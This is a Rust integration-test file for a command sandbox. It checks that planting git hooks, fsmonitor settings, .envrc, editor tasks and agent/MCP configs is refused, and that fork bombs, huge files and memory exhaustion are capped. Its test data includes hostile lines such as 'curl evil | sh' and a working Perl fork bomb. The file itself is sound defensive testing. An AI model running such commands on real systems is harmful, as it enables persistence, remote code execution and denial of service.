    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("dropping_the_sandbox_kills_a_daemon", dirs.policy()).await else {
            return;
        };
        let (_process, daemon, tree) = start_daemon(&sandbox, &dirs).await;
        drop(sandbox);
        let survivors = survivors(&tree).await;
        assert!(
            survivors.is_empty(),
            "processes outlived the closed sandbox (daemon {daemon}; killed now): {survivors:#?}"
        );
    })
    .await
}

// ---------------------------------------------------------------------------
// Positive controls
// ---------------------------------------------------------------------------

#[tokio::test]
async fn posix_shared_memory_works_inside() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("posix_shared_memory_works_inside", dirs.policy()).await else { return };
        // Pool needs POSIX semaphores, which live in /dev/shm.
        let code = "
            import multiprocessing
            with multiprocessing.Pool(2) as pool:
                print(sum(pool.map(abs, range(-10, 0))))
        ";
        let out = sandbox.run(dirs.python(code)).await.unwrap();
        assert_eq!(assert_ok(&out), "55\n");
    })
    .await
}

#[tokio::test]
async fn writing_the_workspace_and_tmpdir_works() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("writing_the_workspace_and_tmpdir_works", dirs.policy()).await else {
            return;
        };
        let script = "echo made > made.txt && echo temp > \"$TMPDIR/temp.txt\" && mkdir -p sub/dir \
                      && mv made.txt sub/dir/ && ln -s sub/dir link && ln sub/dir/made.txt hard.txt \
                      && echo more >> link/made.txt && mktemp > /dev/null";
        assert_ok(&sandbox.run(dirs.sh(script)).await.unwrap());
        assert_eq!(fs::read_to_string(dirs.workspace.join("sub/dir/made.txt")).unwrap(), "made\nmore\n");
        assert_eq!(fs::read_to_string(dirs.workspace.join("hard.txt")).unwrap(), "made\nmore\n");
        assert_eq!(fs::read_to_string(dirs.tmp.join("temp.txt")).unwrap(), "temp\n");
    })
    .await
}

#[tokio::test]
async fn reading_everywhere_works_under_read_only() {
    bounded("test", async {
        let dirs = Dirs::new();
        let policy = PolicyBuilder::new(Preset::ReadOnly).cwd(&dirs.workspace).build().unwrap();
        let Some(sandbox) = confined("reading_everywhere_works_under_read_only", policy).await else {
            return;
        };
        let system = ["/etc/hostname", "/etc/passwd"].into_iter().find(|p| Path::new(p).exists()).unwrap();
        let out = sandbox.run(dirs.command("cat").arg(system)).await.unwrap();
        assert_eq!(out.stdout, fs::read(system).unwrap());
        let out = sandbox.run(dirs.sh("ls /usr/bin | wc -l; cat \"$OUT/keep.txt\"")).await.unwrap();
        let text = assert_ok(&out);
        let (count, rest) = text.split_once('\n').unwrap();
        assert!(count.trim().parse::<usize>().unwrap() > 10, "{text}");
        assert_eq!(rest, "original\n");
    })
    .await
}

#[tokio::test]
async fn tcp_to_a_loopback_listener_works_with_the_network_on() {
    bounded("test", async {
        let dirs = Dirs::new();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port().to_string();
        // With the network on there is no network namespace: the sandbox's
        // loopback is the machine's.
        let policy = dirs.workspace_write().network(true).build().unwrap();
        let Some(sandbox) = confined("tcp_to_a_loopback_listener_works_with_the_network_on", policy).await
        else {
            return;
        };
        let code = "
            import os, socket
            s = socket.create_connection(('127.0.0.1', int(os.environ['PORT'])), timeout=5)
            s.sendall(b'hello from the sandbox')
            s.close()
            print('connected')
        ";
        let out = sandbox.run(dirs.python(code).env("PORT", &port)).await.unwrap();
        assert_eq!(assert_ok(&out), "connected\n");
        listener.set_nonblocking(true).unwrap();
        let (mut stream, _) = listener.accept().expect("the connection is waiting");
        stream.set_nonblocking(false).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let mut received = String::new();
        stream.read_to_string(&mut received).unwrap();
        assert_eq!(received, "hello from the sandbox");
    })
    .await
}

#[tokio::test]
async fn writing_the_working_directory_is_refused_under_read_only() {
    bounded("test", async {
        let dirs = Dirs::new();
        let policy = PolicyBuilder::new(Preset::ReadOnly).cwd(&dirs.workspace).build().unwrap();
        let before = snapshot(&dirs.workspace);
        let Some(sandbox) =
            confined("writing_the_working_directory_is_refused_under_read_only", policy).await
        else {
            return;
        };
        for script in ["echo pwned > file.txt", "mkdir dir", "ln -s /etc link"] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EACCES]);
        }
        // The test's temp dir, under /tmp and not in the policy, is not
        // even there.
        let out = sandbox.run(dirs.sh("echo pwned > \"$TMPDIR/x\"")).await.unwrap();
        assert_refused(&out, &["Directory nonexistent", ENOENT]);
        assert!(!dirs.tmp.join("x").exists());
        // Devices stay writable.
        assert_ok(&sandbox.run(dirs.sh("echo fine > /dev/null")).await.unwrap());
        assert_unchanged(&dirs.workspace, &before);
    })
    .await
}

// ---------------------------------------------------------------------------
// What the sandbox leaves behind: code that runs outside later
// ---------------------------------------------------------------------------

/// `git` with the identity a commit needs and no user or system
/// configuration, run outside the sandbox by the test.
fn host_git(dir: &Path, args: &[&str]) {
    let status = StdCommand::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?} in {}", dir.display());
}

/// Whether `git` runs here; says why not on stderr.
fn has_git(test: &str) -> bool {
    let found = StdCommand::new("git").arg("--version").stdout(Stdio::null()).status().is_ok();
    if !found {
        eprintln!("SKIPPED {test}: no git on this machine");
    }
    found
}

/// Shuts the sandbox down and waits for its supervisor to have removed
/// what it held protected paths with.
async fn end(sandbox: Sandbox) {
    let supervisor = sandbox.info().pid;
    sandbox.shutdown().await.unwrap();
    assert!(wait_gone(supervisor), "the supervisor {supervisor} is gone");
}

#[tokio::test]
async fn planting_a_cordon_toml_for_the_next_run_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let before = snapshot(&dirs.workspace);
        let Some(sandbox) =
            confined("planting_a_cordon_toml_for_the_next_run_is_refused", dirs.policy()).await
        else {
            return;
        };
        for script in [
            "echo 'policy = \"full-access\"' > cordon.toml",
            "rmdir cordon.toml && echo 'network = true' > cordon.toml",
            "mv cordon.toml elsewhere",
            "echo 'policy = \"full-access\"' > .cordon/config.toml",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &["Is a directory", EROFS, EBUSY]);
        }
        end(sandbox).await;
        assert_unchanged(&dirs.workspace, &before);
    })
    .await
}

#[tokio::test]
async fn creating_a_git_repository_at_the_workspace_root_is_refused() {
    bounded("test", async {
        let test = "creating_a_git_repository_at_the_workspace_root_is_refused";
        if !has_git(test) {
            return;
        }
        let dirs = Dirs::new();
        let before = snapshot(&dirs.workspace);
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        for script in [
            "git init -q . && git config core.fsmonitor 'touch /tmp/pwned' && echo ESCAPED",
            "mkdir -p .git/hooks",
            "rmdir .git && mkdir .git",
            "printf 'gitdir: /tmp/evil\n' > .git",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EROFS, EBUSY, "Is a directory"]);
        }
        end(sandbox).await;
        // Nothing is left where .git would be, not even the placeholder.
        assert!(fs::symlink_metadata(dirs.workspace.join(".git")).is_err());
        assert_unchanged(&dirs.workspace, &before);
    })
    .await
}

#[tokio::test]
async fn writing_a_nested_repositorys_config_or_hooks_is_refused() {
    bounded("test", async {
        let test = "writing_a_nested_repositorys_config_or_hooks_is_refused";
        if !has_git(test) {
            return;
        }
        let dirs = Dirs::new();
        let nested = dirs.workspace.join("vendor/lib");
        fs::create_dir_all(&nested).unwrap();
        host_git(&nested, &["init", "-q"]);
        fs::write(nested.join("file"), "v1\n").unwrap();
        let config = snapshot(&nested.join(".git/hooks"));
        let config_text = fs::read_to_string(nested.join(".git/config")).unwrap();
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        for script in [
            "git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned'",
            "printf '#!/bin/sh\nid\n' > vendor/lib/.git/hooks/pre-commit",
            "mv vendor/lib/.git/config vendor/lib/.git/config.old",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EROFS, EBUSY]);
        }
        // The repository itself still works: a commit writes objects, the
        // index and a ref, none of them protected.
        let commit = "cd vendor/lib && git add file && git -c user.name=t -c user.email=t@t commit -qm one && \
                      git log --oneline | wc -l";
        let out = sandbox.run(dirs.sh(commit).env("HOME", path_str(&dirs.tmp))).await.unwrap();
        assert_eq!(assert_ok(&out).trim(), "1");
        end(sandbox).await;
        assert_eq!(fs::read_to_string(nested.join(".git/config")).unwrap(), config_text);
        assert_unchanged(&nested.join(".git/hooks"), &config);
    })
    .await
}

#[tokio::test]
async fn planting_a_hook_in_the_repositorys_hooks_path_is_refused() {
    bounded("test", async {
        let test = "planting_a_hook_in_the_repositorys_hooks_path_is_refused";
        if !has_git(test) {
            return;
        }
        let dirs = Dirs::new();
        host_git(&dirs.workspace, &["init", "-q"]);
        // husky's layout: the hooks directory does not exist until installed.
        host_git(&dirs.workspace, &["config", "core.hooksPath", ".husky/_"]);
        fs::create_dir(dirs.workspace.join(".husky")).unwrap();
        let before = snapshot(&dirs.workspace.join(".husky"));
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        for script in [
            "mkdir -p .husky/_ && printf '#!/bin/sh\nid\n' > .husky/_/pre-commit",
            "printf '#!/bin/sh\nid\n' > .husky/_/pre-commit",
            "rmdir .husky/_ && ln -s /tmp .husky/_",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EROFS, EBUSY]);
        }
        // The rest of .husky is the project's own, and writable.
        assert_ok(&sandbox.run(dirs.sh("echo 'npx lint' > .husky/pre-commit.src")).await.unwrap());
        end(sandbox).await;
        fs::remove_file(dirs.workspace.join(".husky/pre-commit.src")).unwrap();
        assert_unchanged(&dirs.workspace.join(".husky"), &before);
    })
    .await
}

#[tokio::test]
async fn planting_editor_direnv_and_agent_configuration_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        // One of them exists already; the others do not.
        fs::create_dir(dirs.workspace.join(".vscode")).unwrap();
        fs::write(dirs.workspace.join(".vscode/settings.json"), "{}\n").unwrap();
        let before = snapshot(&dirs.workspace);
        let Some(sandbox) =
            confined("planting_editor_direnv_and_agent_configuration_is_refused", dirs.policy()).await
        else {
            return;
        };
        for script in [
            "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
            "echo '{}' > .vscode/settings.json",
            "echo 'curl evil | sh' > .envrc",
            "echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > .mcp.json",
            "mkdir -p .claude/commands && echo x > .claude/settings.json",
            "echo x > .idea/workspace.xml",
            "echo x > .cursor/mcp.json",
            "echo x > .codex/config.toml",
            "echo x > .agents/x",
            "echo x > .gitmodules",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EROFS, "Is a directory"]);
        }
        end(sandbox).await;
        assert_unchanged(&dirs.workspace, &before);
    })
    .await
}

#[tokio::test]
async fn a_clone_inside_the_workspace_works_and_the_placeholders_go_at_the_end() {
    bounded("test", async {
        let test = "a_clone_inside_the_workspace_works_and_the_placeholders_go_at_the_end";
        if !has_git(test) {
            return;
        }
        let dirs = Dirs::new();
        // Beside the outside directory: under /tmp it would not be in view.
        let origin = dirs.outside.with_file_name("origin");
        fs::create_dir(&origin).unwrap();
        host_git(&origin, &["init", "-q"]);
        fs::write(origin.join("README"), "hello\n").unwrap();
        host_git(&origin, &["add", "README"]);
        host_git(&origin, &["commit", "-qm", "one"]);
        let before = snapshot(&dirs.workspace);
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        // Inside, every missing protected name is an empty directory...
        let out = sandbox.run(dirs.sh("ls -A")).await.unwrap();
        let listed = assert_ok(&out);
        assert!(listed.contains(".envrc") && listed.contains(".git"), "{listed}");
        // ...and a clone works.
        let origin_path = path_str(&origin);
        let clone = format!("git clone -q {origin_path} clone && cat clone/README");
        let out = sandbox.run(dirs.sh(&clone).env("HOME", path_str(&dirs.tmp))).await.unwrap();
        assert_eq!(assert_ok(&out), "hello\n");
        end(sandbox).await;
        // Outside, after the end, only the clone is there.
        fs::remove_dir_all(dirs.workspace.join("clone")).unwrap();
        assert_unchanged(&dirs.workspace, &before);
    })
    .await
}

#[tokio::test]
async fn a_denied_path_stays_unreadable_behind_an_empty_mount_and_its_parent_lists() {
    bounded("test", async {
        let dirs = Dirs::new();
        fs::create_dir(dirs.outside.join("keys")).unwrap();
        fs::write(dirs.outside.join("keys/id"), "key-secret\n").unwrap();
        fs::write(dirs.outside.join("token"), "token-secret\n").unwrap();
        let policy = dirs
            .workspace_write()
            .deny(dirs.outside.join("keys"))
            .deny(dirs.outside.join("token"))
            .build()
            .unwrap();
        let before = snapshot(&dirs.outside);
        let test = "a_denied_path_stays_unreadable_behind_an_empty_mount_and_its_parent_lists";
        let Some(sandbox) = confined(test, policy).await else { return };
        assert!(
            layer_detail(&sandbox, "namespaces")
                .is_some_and(|d| d.contains("denied path(s) behind empty read-only mounts")),
            "{:?}",
            layer_detail(&sandbox, "namespaces")
        );
        for script in [
            "cat \"$OUT/keys/id\"",
            "ls \"$OUT/keys\"",
            "cat \"$OUT/token\"",
            "echo x > \"$OUT/token\"",
            "chmod 644 \"$OUT/token\"",
            "touch \"$OUT/keys/new\"",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            let text = assert_refused(&out, &[EACCES, EPERM]);
            assert!(!text.contains("-secret"), "{script}: {text}");
        }
        // The directory that holds them lists, with them in it.
        let out = sandbox.run(dirs.sh("ls \"$OUT\"")).await.unwrap();
        assert_eq!(assert_ok(&out), "keep.txt\nkeys\ntoken\n");
        end(sandbox).await;
        assert_unchanged(&dirs.outside, &before);
    })
    .await
}

#[tokio::test]
async fn writable_roots_are_mounted_nosuid_and_nodev_inside() {
    bounded("test", async {
        let dirs = Dirs::new();
        let test = "writable_roots_are_mounted_nosuid_and_nodev_inside";
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        let mounts = mountinfo(sandbox.info().pid);
        for root in [&dirs.workspace, &dirs.tmp] {
            let line = mounts
                .lines()
                .rfind(|line| line.split(' ').nth(4) == Some(path_str(root)))
                .unwrap_or_else(|| panic!("{} is not a mount point inside:\n{mounts}", root.display()));
            let options: Vec<&str> = line.split(' ').nth(5).unwrap().split(',').collect();
            for flag in ["rw", "nosuid", "nodev"] {
                assert!(options.contains(&flag), "{}: {options:?}", root.display());
            }
        }
        end(sandbox).await;
    })
    .await
}

#[tokio::test]
async fn a_placeholder_shared_by_two_sandboxes_holds_until_the_last_is_gone() {
    bounded("test", async {
        let test = "a_placeholder_shared_by_two_sandboxes_holds_until_the_last_is_gone";
        let dirs = Dirs::new();
        // One left behind by a sandbox whose supervisor was killed.
        fs::create_dir(dirs.workspace.join(".envrc")).unwrap();
        fs::set_permissions(dirs.workspace.join(".envrc"), fs::Permissions::from_mode(0o1555)).unwrap();
        let Some(first) = confined(test, dirs.policy()).await else { return };
        let Some(second) = confined(test, dirs.policy()).await else { return };
        end(first).await;
        // The first one's end took nothing from the second.
        let runner = second.info().pid;
        for name in [".git", ".envrc", "cordon.toml"] {
            assert!(is_mount_point(&mountinfo(runner), &dirs.workspace.join(name)), "{name} is still held");
        }
        for script in ["mkdir .git/hooks", "echo 'curl evil | sh' > .envrc", "echo x > cordon.toml"] {
            let out = second.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EROFS, "Is a directory"]);
        }
        end(second).await;
        // The last one out removed them all, the stale one included.
        let left: Vec<String> = fs::read_dir(&dirs.workspace)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into())
            .collect();
        assert!(left.is_empty(), "left behind: {left:?}");
    })
    .await
}

#[tokio::test]
async fn starving_the_runner_of_cpu_or_io_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let test = "starving_the_runner_of_cpu_or_io_is_refused";
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        let runner = runner_on_host(&sandbox);
        let nice_before = fs::read_to_string(format!("/proc/{runner}/stat")).unwrap();
        let field = |stat: &str, n: usize| stat[stat.rfind(')').unwrap() + 2..].split(' ').nth(n).unwrap().to_string();
        for script in [
            "renice -n 19 -p 1",
            "renice -n 19 -u \"$(id -u)\"",
            "taskset -p 1 1",
            "chrt -i -p 0 1",
            "ionice -c 3 -p 1",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            assert_refused(&out, &[EPERM]);
        }
        let out = sandbox
            .run(dirs.python_libc("check(libc.setpriority(0, 1, 19))\nprint('ESCAPED')"))
            .await
            .unwrap();
        assert_refused(&out, &[EPERM]);
        // Outside, the runner's nice value (field 19 of stat) is as it was.
        let nice_after = fs::read_to_string(format!("/proc/{runner}/stat")).unwrap();
        assert_eq!(field(&nice_after, 16), field(&nice_before, 16));
        // A command may still lower its own priority, and its children's.
        let own = "renice -n 5 -p $$ >/dev/null && nice -n 3 sh -c 'ionice -c 3 -p $$ && taskset -p 1 $$ >/dev/null' \
                   && echo fine";
        assert_eq!(assert_ok(&sandbox.run(dirs.sh(own)).await.unwrap()), "fine\n");
        end(sandbox).await;
    })
    .await
}

#[tokio::test]
async fn a_denied_path_that_does_not_exist_yet_cannot_be_made_inside() {
    bounded("test", async {
        let dirs = Dirs::new();
        let policy = dirs
            .workspace_write()
            .deny(dirs.workspace.join("secret"))
            .deny(dirs.workspace.join("a/b/key"))
            .build();
        let test = "a_denied_path_that_does_not_exist_yet_cannot_be_made_inside";
        let Some(sandbox) = confined(test, policy.unwrap()).await else { return };
        for script in [
            "mkdir secret; echo s3 > secret/key && cat secret/key",
            "echo s3 > secret",
            "rmdir secret && mkdir secret",
            "mkdir -p a/b && echo s3 > a/b/key",
        ] {
            let out = sandbox.run(dirs.sh(script)).await.unwrap();
            let text = assert_refused(&out, &[EACCES, EBUSY, "File exists", "Is a directory"]);
            assert!(!text.contains("s3"), "{script}: {text}");
        }
        // The rest of the workspace is as writable as ever.
        assert_ok(&sandbox.run(dirs.sh("mkdir other && echo fine > other/notes")).await.unwrap());
        end(sandbox).await;
        for path in ["secret", "a"] {
            assert!(
                fs::symlink_metadata(dirs.workspace.join(path)).is_err(),
                "{path} is left in the workspace"
            );
        }
    })
    .await
}

// ---------------------------------------------------------------------------
// The default limits: a runaway under the default policy
// ---------------------------------------------------------------------------
//
// Each test runs under `Dirs::policy()`, the default workspace-write policy
// with no limit asked for, and shows that the preset's default limits stop
// the attack, looking at the cgroup the limits layer names from outside.

/// Whether this machine has a writable cgroup for `controller` (`pids`,
/// `memory`), where the default process and memory limits live.
fn writable_cgroup(controller: &str) -> bool {
    let v1 = format!("cgroup v1 {controller}");
    cordon_sandbox::probe().into_iter().any(|p| (p.name == "cgroup v2" || p.name == v1) && p.available)
}

/// The cgroup the limits layer names (`…, cgroup PATH, …`) that has `file`.
fn layer_cgroup(detail: &str, file: &str) -> Option<PathBuf> {
    detail
        .split(", ")
        .filter_map(|part| part.strip_prefix("cgroup "))
        .map(PathBuf::from)
        .find(|dir| dir.join(file).exists())
}

/// The number a cgroup file holds.
fn cgroup_number(dir: &Path, file: &str) -> u64 {
    let path = dir.join(file);
    let text = fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    text.trim().parse().unwrap_or_else(|_| panic!("{}: not a number: {text:?}", path.display()))
}

#[tokio::test]
async fn a_fork_bomb_is_stopped_by_the_default_process_limit() {
    const TEST: &str = "a_fork_bomb_is_stopped_by_the_default_process_limit";
    bounded("test", async {
        let _one_at_a_time = BOMBS.lock().await;
        // The default is a pids cgroup's only (never RLIMIT_NPROC, which
        // counts all of the user's processes). Never run the bomb unbounded.
        if !writable_cgroup("pids") {
            eprintln!("SKIPPED {TEST}: no writable pids cgroup, so no default process limit here");
            return;
        }
        if StdCommand::new("perl").arg("-e1").status().map_or(true, |s| !s.success()) {
            eprintln!("SKIPPED {TEST}: no perl here");
            return;
        }
        let dirs = Dirs::new();
        let policy = dirs.policy();
        assert!(policy.limits.processes.is_none(), "the default policy asks for no process limit");
        let Some(sandbox) = confined(TEST, policy).await else { return };
        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
        let cgroup = layer_cgroup(&detail, "pids.max")
            .unwrap_or_else(|| panic!("the limits layer names no pids cgroup: {detail:?}"));
        // Less the runner and its supervisor, which the limit does not count.
        let limit = cgroup_number(&cgroup, "pids.max") - 2;
        assert!(detail.contains(&format!("sandbox processes={limit} (default)")), "{detail}");
        assert!(limit <= 4096, "a default of {limit} processes");
        // Fork until refused, at most twice the limit, and hold the
        // children until stdin closes. In Perl: its fork is four times as
        // fast as Python's (and no shell stops at the first refusal: dash
        // exits, bash retries for 15 s).
        let script = format!(
            "$| = 1; pipe(R, W); my $n = 0;
             while ($n < {bound}) {{
                 my $pid = fork();
                 if (!defined $pid) {{ print \"refused after $n processes: $!\\n\"; last }}
                 if ($pid == 0) {{ close W; close STDOUT; close STDERR; sysread(R, my $x, 1); exit 0 }}
                 $n++;
             }}
             print \"ESCAPED: $n processes\\n\" if $n >= {bound};
             1 while <STDIN>;",
            bound = limit * 2
        );
        let command = dirs.command("perl").arg("-e").arg(script).stdin(true);
        let mut bomb = sandbox.spawn(command).await.unwrap();
        let said = read_until(&mut bomb, "\n").await;
        // From outside, while the bomb holds everything it made.
        let current = cgroup_number(&cgroup, "pids.current");
        let events = fs::read_to_string(cgroup.join("pids.events")).unwrap_or_default();
        bomb.close_stdin().await.unwrap();
        let status = bomb.wait().await.unwrap();
        sandbox.shutdown().await.unwrap();

        assert!(!said.contains(ESCAPED) && !status.timed_out, "{status:?}: {said}");
        assert!(said.contains("Resource temporarily unavailable"), "{said}");
        let made: u64 = said
            .split_whitespace()
            .nth(2)
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("no count in {said:?}"));
        // Perl and its children: exactly the limit, all of it the commands'.
        assert_eq!(made + 1, limit, "{made} processes forked by perl (limit {limit}): {said}");
        assert_eq!(current, limit + 2, "tasks in the cgroup: the commands', the runner and its supervisor");
        let hits: u64 = events.trim().strip_prefix("max ").and_then(|n| n.parse().ok()).unwrap_or(0);
        assert!(hits > 0, "the pids cgroup never refused a fork: {events:?}");
        assert!(StdCommand::new("true").status().unwrap().success());
    })
    .await
}

/// The cgroups the limits layer made and names (`…, cgroup PATH, …`).
fn layer_cgroups(detail: &str) -> Vec<PathBuf> {
    detail.split(", ").filter_map(|part| part.strip_prefix("cgroup ")).map(PathBuf::from).collect()
}

/// The pids the supervisor `pid` has as children (the runner, init of the
/// PID namespace).
fn children_of(pid: u32) -> Vec<u32> {
    let path = format!("/proc/{pid}/task/{pid}/children");
    fs::read_to_string(path).unwrap_or_default().split_whitespace().filter_map(|p| p.parse().ok()).collect()
}

#[tokio::test]
async fn the_sandbox_cgroups_are_removed_when_the_runner_ends_or_is_killed() {
    const TEST: &str = "the_sandbox_cgroups_are_removed_when_the_runner_ends_or_is_killed";
    bounded("test", async {
        if !writable_cgroup("pids") && !writable_cgroup("memory") {
            eprintln!("SKIPPED {TEST}: no writable cgroup, so the sandbox makes none here");
            return;
        }
        // Ended, its runner killed, its supervisor killed.
        for how in ["ended", "runner killed", "supervisor killed"] {
            let dirs = Dirs::new();
            let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
            let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
            let cgroups = layer_cgroups(&detail);
            assert!(!cgroups.is_empty(), "the limits layer names no cgroup: {detail:?}");
            // A process inside, so that the cgroup is in use at the end.
            let mut sleeper = sandbox.spawn(dirs.sh("echo started; exec sleep 100")).await.unwrap();
            read_until(&mut sleeper, "started").await;
            for dir in &cgroups {
                assert!(dir.is_dir(), "{} exists while the sandbox runs", dir.display());
            }
            let supervisor = sandbox.info().pid;
            let runner = children_of(supervisor);
            assert_eq!(runner.len(), 1, "the supervisor {supervisor} has one child: {runner:?}");
            match how {
                "ended" => {
                    drop(sleeper);
                    sandbox.shutdown().await.unwrap();
                }
                victim => {
                    let pid = if victim == "runner killed" { runner[0] } else { supervisor };
                    StdCommand::new("kill").arg("-KILL").arg(pid.to_string()).status().unwrap();
                    drop(sleeper);
                    drop(sandbox);
                }
            }
            assert!(wait_gone(supervisor) && wait_gone(runner[0]), "the supervisor and runner are gone");
            if how == "supervisor killed" {
                // Nobody was left to remove them: the next launch does.
                let next = confined(TEST, dirs.policy()).await.expect("the next sandbox");
                end(next).await;
            }
            for dir in &cgroups {
                assert!(!dir.exists(), "{} is left behind ({how})", dir.display());
            }
        }
    })
    .await
}

#[tokio::test]
async fn the_sandbox_cgroup_is_inside_the_launchers_own() {
    const TEST: &str = "the_sandbox_cgroup_is_inside_the_launchers_own";
    bounded("test", async {
        let table = fs::read_to_string("/proc/self/cgroup").unwrap();
        if table.lines().any(|line| line.starts_with("0::")) && table.lines().count() == 1 {
            eprintln!(
                "SKIPPED {TEST}: a unified hierarchy, where the sandbox's cgroup is cordon/ at its root"
            );
            return;
        }
        if !writable_cgroup("memory") {
            eprintln!("SKIPPED {TEST}: no writable memory cgroup");
            return;
        }
        // The launcher's own memory cgroup, e.g. a service's with its cap.
        let own = table
            .lines()
            .find_map(|line| line.split(':').nth(2).filter(|_| line.split(':').nth(1) == Some("memory")))
            .unwrap();
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
        let cgroup = layer_cgroup(&detail, "memory.limit_in_bytes")
            .unwrap_or_else(|| panic!("the limits layer names no memory cgroup: {detail:?}"));
        let expected = Path::new("/sys/fs/cgroup/memory").join(own.trim_start_matches('/')).join("cordon");
        assert_eq!(cgroup.parent(), Some(expected.as_path()), "the sandbox's memory cgroup");
        end(sandbox).await;
    })
    .await
}

#[tokio::test]
async fn a_huge_sparse_file_is_refused_by_default() {
    const TEST: &str = "a_huge_sparse_file_is_refused_by_default";
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
        // 15 TB by truncate(2) and by a write after a seek, in the workspace
        // and in TMPDIR. Python ignores SIGXFSZ, so it sees EFBIG.
        let code = "
            import os
            big = 15 * 10**12
            for path in ['sparse', os.environ['TMPDIR'] + '/sparse']:
                open(path, 'wb').close()
                try:
                    os.truncate(path, big)
                    print('ESCAPED: truncated', path)
                except OSError as e:
                    print('truncate:', e.strerror)
                try:
                    with open(path + '.seek', 'wb', buffering=0) as f:
                        f.seek(big)
                        f.write(b'x')
                    print('ESCAPED: wrote at 15 TB in', path)
                except OSError as e:
                    print('write:', e.strerror)
            # A large file of a build is fine.
            with open('large', 'wb') as f:
                f.truncate(1 << 30)
            print('1 GiB: fine')
        ";
        let out = sandbox.run(dirs.python(code)).await.unwrap();
        let said = text(&out);
        assert!(!said.contains(ESCAPED), "{detail}\n{said}");
        assert_eq!(said.matches("File too large").count(), 4, "{said}");
        assert!(said.contains("1 GiB: fine"), "{said}");
        // truncate(1) is killed by SIGXFSZ, or sees EFBIG where it is ignored.
        let out = sandbox.run(dirs.command("truncate").args(["-s", "15T", "by-truncate"])).await.unwrap();
        assert!(!out.status.success(), "truncate -s 15T worked: {:?}", out.status);
        assert!(
            out.status.signal == Some(Signal::SIGXFSZ as i32) || text(&out).contains("File too large"),
            "{:?}: {}",
            out.status,
            text(&out)
        );
        sandbox.shutdown().await.unwrap();
        // From outside: nothing is 15 TB.
        for path in [
            dirs.workspace.join("sparse"),
            dirs.workspace.join("sparse.seek"),
            dirs.tmp.join("sparse"),
            dirs.tmp.join("sparse.seek"),
            dirs.workspace.join("by-truncate"),
        ] {
            let size = fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
            assert!(size <= 64 << 30, "{} is {size} bytes", path.display());
        }
        assert_eq!(fs::metadata(dirs.workspace.join("large")).unwrap().len(), 1 << 30);
        assert!(detail.contains("file size=") && detail.contains("(default)"), "{detail}");
    })
    .await
}

#[tokio::test]
async fn a_memory_bomb_is_stopped_by_the_default_memory_limit() {
    const TEST: &str = "a_memory_bomb_is_stopped_by_the_default_memory_limit";
    bounded("test", async {
        let _one_at_a_time = BOMBS.lock().await;
        if !writable_cgroup("memory") {
            eprintln!("SKIPPED {TEST}: no writable memory cgroup, so no default memory limit here");
            return;
        }
        let meminfo = fs::read_to_string("/proc/meminfo").unwrap();
        let kib: u64 = meminfo
            .lines()
            .find_map(|line| line.strip_prefix("MemTotal:"))
            .and_then(|rest| rest.trim().strip_suffix("kB"))
            .and_then(|n| n.trim().parse().ok())
            .expect("MemTotal in /proc/meminfo");
        let physical = kib * 1024;
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
        // v2 names it memory.max and its peak memory.peak; v1
        // memory.limit_in_bytes and memory.max_usage_in_bytes.
        let (cgroup, limit_file, peak_file) = match layer_cgroup(&detail, "memory.max") {
            Some(dir) => (dir, "memory.max", "memory.peak"),
            None => match layer_cgroup(&detail, "memory.limit_in_bytes") {
                Some(dir) => (dir, "memory.limit_in_bytes", "memory.max_usage_in_bytes"),
                None => panic!("the limits layer names no memory cgroup: {detail:?}"),
            },
        };
        let limit = cgroup_number(&cgroup, limit_file);
        assert!(limit <= physical / 2, "the sandbox may take {limit} of {physical} bytes");
        assert!(detail.contains(&format!("sandbox memory={limit} (default)")), "{detail}");
